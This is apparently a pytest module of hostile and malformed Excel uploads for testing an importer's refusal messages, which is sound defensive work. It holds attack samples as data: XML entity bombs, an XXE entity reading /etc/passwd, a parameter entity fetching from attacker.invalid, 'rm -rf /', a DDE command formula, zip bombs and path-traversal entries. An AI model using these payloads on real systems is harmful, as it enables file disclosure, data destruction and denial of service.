"""Hostile and malformed uploads for the Excel imports, generated from a good file of the importer.

Each case is (id, build, expected, overrides): `build(good, other)` returns the bytes to
upload, from a good filled template of the importer under test and a template of the other
importer; `expected` are message fragments of which one must be in the refusal; `overrides`
are settings to apply first.
"""

import io
import random
import re
import zipfile

import openpyxl
import pytest

UNKNOWN_KIND = ("받을 수 없는 파일 형식",)
UNREADABLE = ("엑셀 파일을 읽을 수 없습니다",)
ENTITIES = ("허용되지 않는 XML 구성",)
DAMAGED = ("손상된 압축 형식 파일",)
MACRO = ("매크로가 들어 있는 문서",)
WRONG_TEMPLATE = ("양식이 아닙니다",)
NO_ROWS = ("가져올 행이 없습니다",)

SHEET = "xl/worksheets/sheet1.xml"
BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    + "]>"
)
EXTERNAL_ENTITY = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
PARAMETER_ENTITY = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]>'


def rezip(data, *, replace=None, add=None, drop=()):
    """A copy of the ZIP `data` with some entries replaced, added or dropped."""
    replace, add = replace or {}, add or {}
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename in drop:
                continue
            content = replace.get(info.filename, source.read(info.filename))
            target.writestr(info.filename, content(source.read(info.filename)) if callable(content) else content)
        for name, content in add.items():
            target.writestr(name, content)
    return out.getvalue()


def with_doctype(name, doctype, use_entity):
    """Replace the XML declaration of entry `name` by `doctype`, and use an entity in it when asked."""

    def change(xml):
        text = re.sub(r"^<\?xml[^>]*\?>", "", xml.decode())
        if use_entity:
            text = text.replace("추진 중", use_entity, 1)
        return (doctype + text).encode()

    return lambda good, other: rezip(good, replace={name: change})


def zip_of(entries):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


def declared_size(data, size):
    """Patch the central directory so that every entry claims `size` bytes once unpacked."""
    patched = bytearray(data)
    for match in re.finditer(rb"PK\x01\x02", data):
        patched[match.start() + 24 : match.start() + 28] = size.to_bytes(4, "little")
    return bytes(patched)


def corrupt_entry(data, name):
    """Flip bytes inside the compressed data of entry `name` (its CRC no longer matches)."""
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo(name)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    patched = bytearray(data)
    for offset in range(start + 5, start + min(info.compress_size, 60)):
        patched[offset] ^= 0x5A
    return bytes(patched)


def workbook_bytes(rows):
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def edited(good, change):
    """`good` opened with openpyxl, changed by `change(sheet)`, saved again."""
    workbook = openpyxl.load_workbook(io.BytesIO(good))
    change(workbook.active)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def header_only(good):
    def clear(ws):
        ws.delete_rows(4, ws.max_row)

    return edited(good, clear)


def blanked(good):
    """The template as downloaded: identity columns filled, nothing entered."""

    def clear(ws):
        for row in ws.iter_rows(min_row=4):
            for cell in row:
                if cell.column > 5:
                    cell.value = None

    return edited(good, clear)


def header_swapped(good):
    def swap(ws):
        ws["A3"], ws["B3"] = ws["B3"].value, ws["A3"].value

    return edited(good, swap)


def far_row(ws):
    """A value typed a million rows down, past the row limit and far from the template's rows."""
    ws.cell(1_000_000, 7, 50)


def marker(text):
    def change(ws):
        ws["A1"] = text

    return lambda good, other: edited(good, change)


def constant(data):
    return lambda good, other: data


def random_bytes(size):
    return constant(random.Random(size).randbytes(size))


CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    b'wordprocessingml.document.main+xml"/></Types>'
)

CASES = [
    ("empty", constant(b""), ("빈 파일",), {}),
    *((f"random-{size}", random_bytes(size), UNKNOWN_KIND, {}) for size in (1, 3, 17, 255, 1024, 4096, 65536, 500_000)),
    ("elf-renamed", constant(b"\x7fELF\x02\x01\x01" + b"\x00" * 200), UNKNOWN_KIND, {}),
    ("exe-renamed", constant(b"MZ\x90\x00\x03" + b"\x00" * 58 + b"PE\x00\x00" + b"\x00" * 200), UNKNOWN_KIND, {}),
    ("shell-script", constant(b"#!/bin/sh\nrm -rf / --no-preserve-root\n"), UNKNOWN_KIND, {}),
    ("html", constant(b"<html><body><table><tr><td>1-1</td></tr></table></body></html>"), UNKNOWN_KIND, {}),
    (
        "html-as-xls",
        constant('<table><tr><td>과제번호</td><td>=cmd|"/c calc"!A1</td></tr></table>'.encode()),
        UNKNOWN_KIND,
        {},
    ),
    ("csv", constant("업무계획,과제번호,추진률\nplan,1-1,40\n".encode()), UNKNOWN_KIND, {}),
    ("csv-formula", constant(b'=HYPERLINK("http://x.invalid","x"),1-1\n'), UNKNOWN_KIND, {}),
    ("csv-utf16", constant("과제번호\t1-1\n".encode("utf-16")), UNKNOWN_KIND, {}),
    ("json", constant(b'{"rows": [{"code": "1-1", "progress": 40}]}'), UNKNOWN_KIND, {}),
    (
        "spreadsheetml-2003",
        constant(b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'),
        UNKNOWN_KIND,
        {},
    ),
    ("pdf", constant(b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF"), UNKNOWN_KIND, {}),
    ("png", constant(b"\x89PNG\r\n\x1a\n" + b"\x00" * 64), UNKNOWN_KIND, {}),
    ("jpeg", constant(b"\xff\xd8\xff\xe0" + b"\x00" * 64), UNKNOWN_KIND, {}),
    ("gif", constant(b"GIF89a" + b"\x00" * 64), UNKNOWN_KIND, {}),
    ("xls-ole", constant(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(7).randbytes(2000)), UNKNOWN_KIND, {}),
    ("gzip", constant(b"\x1f\x8b\x08\x00" + b"\x00" * 100), UNKNOWN_KIND, {}),
    ("7z", constant(b"7z\xbc\xaf\x27\x1c" + b"\x00" * 100), UNKNOWN_KIND, {}),
    ("rar", constant(b"Rar!\x1a\x07\x00" + b"\x00" * 100), UNKNOWN_KIND, {}),
    (
        "docx",
        constant(zip_of({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b"<w:document/>"})),
        UNKNOWN_KIND,
        {},
    ),
    (
        "hwpx",
        constant(zip_of({"mimetype": b"application/hwp+zip", "Contents/section0.xml": b"<s/>"})),
        UNKNOWN_KIND,
        {},
    ),
    (
        "ods",
        constant(zip_of({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"})),
        UNKNOWN_KIND,
        {},
    ),
    ("plain-zip", constant(zip_of({"readme.txt": b"hello"})), UNKNOWN_KIND, {}),
    ("empty-zip", constant(zip_of({})), UNKNOWN_KIND + DAMAGED, {}),
    ("xlsx-without-workbook", lambda good, other: rezip(good, drop=("xl/workbook.xml",)), UNKNOWN_KIND, {}),
    (
        "zip-bomb-declared-size",
        lambda good, other: declared_size(good, 250 * 1024 * 1024),
        ("압축을 풀면 너무 큰",),
        {},
    ),
    (
        "zip-bomb-ratio",
        lambda good, other: rezip(good, add={"xl/media/zeros.bin": b"\x00" * 5_000_000}),
        ("압축률이 비정상적",),
        {},
    ),
    (
        "zip-too-many-entries",
        lambda good, other: rezip(good, add={f"xl/x/{i}.xml": b"" for i in range(2001)}),
        ("항목이 너무 많습니다",),
        {},
    ),
    (
        "zip-entries-over-lowered-limit",
        lambda good, other: good,
        ("항목이 너무 많습니다",),
        {"UPLOAD_ZIP_MAX_ENTRIES": 3},
    ),
    (
        "path-traversal",
        lambda good, other: rezip(good, add={"../../etc/cron.d/evil": b"x"}),
        ("허용되지 않는 경로",),
        {},
    ),
    (
        "path-traversal-nested",
        lambda good, other: rezip(good, add={"xl/../../evil.xml": b"x"}),
        ("허용되지 않는 경로",),
        {},
    ),
    ("absolute-path", lambda good, other: rezip(good, add={"/etc/passwd": b"x"}), ("허용되지 않는 경로",), {}),
    ("xlsm-vba-project", lambda good, other: rezip(good, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), MACRO, {}),
    ("xlsm-vba-upper-case", lambda good, other: rezip(good, add={"xl/VBAPROJECT.BIN": b"x"}), MACRO, {}),
    (
        "xlsm-content-type",
        lambda good, other: rezip(
            good,
            replace={
                "[Content_Types].xml": lambda xml: xml.replace(
                    b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml"
                )
            },
        ),
        MACRO,
        {},
    ),
    ("oversize", lambda good, other: good, ("파일이 너무 큽니다",), {"IMPORT_MAX_BYTES": 2000}),
    (
        "over-declared-limit",
        lambda good, other: good,
        ("압축을 풀면 너무 큰",),
        {"UPLOAD_ZIP_MAX_UNCOMPRESSED_BYTES": 1000},
    ),
    ("sheet-billion-laughs", with_doctype(SHEET, BILLION_LAUGHS, "&lol9;"), ENTITIES, {}),
    ("sheet-external-entity", with_doctype(SHEET, EXTERNAL_ENTITY, "&xxe;"), ENTITIES, {}),
    ("sheet-parameter-entity", with_doctype(SHEET, PARAMETER_ENTITY, None), ENTITIES, {}),
    ("relationships-billion-laughs", with_doctype("xl/_rels/workbook.xml.rels", BILLION_LAUGHS, None), ENTITIES, {}),
    ("core-properties-external-entity", with_doctype("docProps/core.xml", EXTERNAL_ENTITY, None), ENTITIES, {}),
    ("workbook-external-entity", with_doctype("xl/workbook.xml", EXTERNAL_ENTITY, None), ENTITIES, {}),
    ("styles-billion-laughs", with_doctype("xl/styles.xml", BILLION_LAUGHS, None), ENTITIES, {}),
    ("sheet-not-xml", lambda good, other: rezip(good, replace={SHEET: b"\x00\x01 not xml <<<"}), UNREADABLE, {}),
    (
        "sheet-unclosed-xml",
        lambda good, other: rezip(good, replace={SHEET: b"<worksheet><sheetData><row>"}),
        UNREADABLE,
        {},
    ),
    ("workbook-garbage", lambda good, other: rezip(good, replace={"xl/workbook.xml": b"garbage"}), UNREADABLE, {}),
    ("sheet-missing", lambda good, other: rezip(good, drop=(SHEET,)), (*UNREADABLE, "시트가 없는 파일"), {}),
    ("crc-mismatch", lambda good, other: corrupt_entry(good, SHEET), ("CRC 불일치", "압축된 데이터가 손상"), {}),
    ("central-directory-broken", lambda good, other: good.replace(b"PK\x05\x06", b"PX\x05\x06"), DAMAGED, {}),
    ("truncated-half", lambda good, other: good[: len(good) // 2], DAMAGED, {}),
    ("truncated-tail", lambda good, other: good[:-30], DAMAGED, {}),
    ("truncated-header", lambda good, other: good[:10], DAMAGED, {}),
    ("other-template", lambda good, other: other, WRONG_TEMPLATE, {}),
    ("marker-next-version", marker("plan-progress-import v2"), WRONG_TEMPLATE, {}),
    ("marker-removed", marker(None), WRONG_TEMPLATE, {}),
    ("marker-formula", marker("=A2"), WRONG_TEMPLATE, {}),
    ("blank-workbook", constant(workbook_bytes([])), WRONG_TEMPLATE, {}),
    ("unrelated-workbook", constant(workbook_bytes([["이름", "금액"], ["홍길동", 100]])), WRONG_TEMPLATE, {}),
    ("header-only", lambda good, other: header_only(good), NO_ROWS, {}),
    ("nothing-entered", lambda good, other: blanked(good), NO_ROWS, {}),
    ("header-swapped", lambda good, other: header_swapped(good), ("머리글 행",), {}),
    ("too-many-rows", lambda good, other: good, ("행이 너무 많습니다",), {"IMPORT_MAX_ROWS": 1}),
    ("row-far-below", lambda good, other: edited(good, far_row), ("행이 너무 많습니다",), {"IMPORT_MAX_ROWS": 100}),
]


def hostile_params():
    """The cases as pytest params, with their ids."""
    return [pytest.param(build, expected, overrides, id=name) for name, build, expected, overrides in CASES]
